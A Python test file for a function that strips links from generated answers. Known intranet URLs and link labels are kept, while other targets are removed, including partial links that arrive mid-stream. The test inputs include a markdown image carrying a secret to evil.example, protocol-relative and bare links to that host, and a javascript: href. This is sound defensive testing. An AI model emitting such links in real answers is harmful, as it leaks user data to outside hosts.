"""Links out of an answer: what stays of them, and that none slips through in pieces."""

import pytest

from search.links import REMOVED, undecided, without_links

KNOWN = ["See https://intranet.example/leave for the form."]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![a chart](https://evil.example/p.png?q=secret).", "See a chart."),
        ("See [the form](https://intranet.example/leave) [1].", "See the form [1]."),
        ("See [the form][f] and [1][2].", "See [the form][f] and [1][2]."),
        ("[f]: https://evil.example", f"f: {REMOVED}"),
        ("![y][f] and ![f]", "[y][f] and [f]"),
        (
            "It says [1]: yes. [the form]: https://intranet.example/leave",
            "It says [1]: yes. the form: https://intranet.example/leave",
        ),
        ("See [1](//evil.example/x).", "See 1."),
        ("Go to https://evil.example/x.", f"Go to {REMOVED}"),
        ("Go to https://intranet.example/leave.", "Go to https://intranet.example/leave."),
        ("Go to www.evil.example/x now", f"Go to {REMOVED} now"),
        ("<img src=//evil.example/a.png>", f"‹img src={REMOVED}>"),
        ("<a href='javascript:alert(1)'>x</a>", f"‹a href='{REMOVED})'>x‹/a>"),
        ("A List<String> and a < b, either/or, 1//2!", "A List<String> and a < b, either/or, 1//2!"),
    ],
)
def test_labels_stay_and_targets_go(text: str, expected: str) -> None:
    assert without_links(text, KNOWN) == expected


def test_what_may_become_a_link_is_undecided() -> None:
    assert [undecided(text) for text in ("a ![b](htt", "a [1]", "a https://e", "a <im")] == [2, 2, 2, 2]
    assert undecided("It is so. ") == len("It is so. ")
